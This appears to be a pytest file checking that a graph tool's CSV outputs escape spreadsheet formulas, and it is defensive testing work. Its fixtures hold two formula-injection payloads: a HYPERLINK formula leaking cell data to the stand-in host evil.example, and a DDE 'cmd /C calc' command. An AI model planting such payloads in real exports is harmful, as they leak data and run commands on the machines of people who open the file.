"""CSV that a spreadsheet opens safely: every writer escapes cells that would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from wbgraph.cli import main
from wbgraph.outputs import csv_text, formula_safe, raw_csv, unescape_formula
from wbgraph.server import create_app
from wbgraph.store import load_graph

from .conftest import MINI

EVIL_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_COMMENT = "+cmd|' /C calc'!A0"


@pytest.fixture()
def overlay(tmp_path):
    path = tmp_path / "evil.ttl"
    text = (f'@prefix lk: <https://example.org/lake/> .\n'
            f'@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n'
            f'lk:ruritania rdfs:label """{EVIL_LABEL}"""@en ; rdfs:comment """{EVIL_COMMENT}"""@en .\n'
            f'lk:freedonia rdfs:label "@SUM(1+1)"@en .\n')
    path.write_text(text, encoding="utf-8")
    return path


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(text: str) -> None:
    """No cell begins with a character that makes a spreadsheet evaluate it, and the evil text is there."""
    values = cells(text)
    assert values, "no CSV"
    for cell in values:
        assert not cell[:1] in ("=", "+", "@", "\t", "\r") and not (cell.startswith("-") and not
                                                                      cell.lstrip("-").replace(".", "").isdigit()), cell
    assert any(cell.lstrip("'") in (EVIL_LABEL, "@SUM(1+1)", EVIL_COMMENT) for cell in values)


def run(*args):
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


def test_formula_escaping_round_trips_exactly():
    formulas = ["=1+2", "+A1", "-x", "@a", "\tx", "\rx", "'=1", "''@x"]
    for text in formulas:
        assert formula_safe(text) == "'" + text
    for text in ["'plain'", "-3.5", "+7", "1e-3", "ok", ""]:  # plain numbers stay numbers
        assert formula_safe(text) == text
    for text in formulas + ["'plain'", "-3.5", "ok", "'"]:
        assert unescape_formula(formula_safe(text)) == text


def test_export_csv_escapes_labels(overlay, tmp_path):
    run("--no-curated", "--with", MINI, "--with", overlay, "export", "--format", "csv", "-o", tmp_path / "g")
    nodes = (tmp_path / "g-nodes.csv").read_text(encoding="utf-8")
    assert_safe(nodes)
    assert "'" + EVIL_LABEL in cells(nodes)


def test_analyze_csv_escapes_labels(overlay, tmp_path):
    run("--no-curated", "--with", MINI, "--with", overlay, "analyze", "-o", tmp_path / "a")
    assert_safe((tmp_path / "a" / "centrality.csv").read_text(encoding="utf-8"))


def test_query_csv_escapes_and_raw_csv_turns_it_off(overlay):
    query = "SELECT ?l ?c WHERE { ?x rdfs:label ?l OPTIONAL { ?x rdfs:comment ?c } } ORDER BY ?l"
    safe = run("--no-curated", "--with", MINI, "--with", overlay, "query", "-e", query, "--format", "csv").output
    assert_safe(safe)
    raw = run("--raw-csv", "--no-curated", "--with", MINI, "--with", overlay, "query", "-e", query,
              "--format", "csv").output
    assert EVIL_LABEL in cells(raw) and EVIL_COMMENT in cells(raw)


def test_server_csv_downloads_and_sparql_csv_escape(overlay):
    store = load_graph([MINI, overlay], curated=False)
    client = TestClient(create_app(store, workers=1), base_url="http://127.0.0.1")
    download = client.get("/queries/actor-profile", params={"actor": "https://example.org/lake/ruritania",
                                                           "format": "csv"})
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    assert_safe(download.text)
    sparql = client.get("/sparql", params={"query": "SELECT ?l WHERE { ?x rdfs:label ?l }"},
                        headers={"Accept": "text/csv"})
    assert sparql.status_code == 200
    assert_safe(sparql.text)
    assert "'" + EVIL_LABEL in cells(sparql.text)


def test_raw_csv_in_the_library():
    with raw_csv():
        assert csv_text(["a"], [["=1"]]) == "a\n=1\n"
    assert csv_text(["a"], [["=1"]]) == "a\n'=1\n"


def test_ingest_reads_escaped_cells_back_exactly(tmp_path):
    """A claim comment that a spreadsheet would run is escaped in the export and restored by ingest."""
    from rdflib import RDF, RDFS, Graph, Literal

    from wbgraph.export import export
    from wbgraph.ingest import ingest
    from wbgraph.vocab import WB

    comment = "=1+2, -x and @y"
    text = MINI.read_text(encoding="utf-8").replace(
        "wb:lineStart 3 ; wb:lineEnd 3 .", f'wb:lineStart 3 ; wb:lineEnd 3 ; rdfs:comment "{comment}"@en .', 1)
    assert comment in text
    source = tmp_path / "mini.ttl"
    source.write_text(text, encoding="utf-8")
    store = load_graph([source], curated=False)
    claims_csv = [p for p in export(store, "csv", tmp_path / "lake") if p.name == "lake-claims.csv"][0]
    assert "'" + comment in cells(claims_csv.read_text(encoding="utf-8"))
    result = ingest(store, claims_csv, into=tmp_path / "again.ttl")
    assert result.ok, result.to_text()
    again = Graph().parse(tmp_path / "again.ttl")
    comments = {str(o) for c in again.subjects(RDF.type, WB.Claim) for o in again.objects(c, RDFS.comment)}
    assert comment in comments and "'" + comment not in comments
    assert Literal(comment, lang="en") in set(again.objects(None, RDFS.comment))
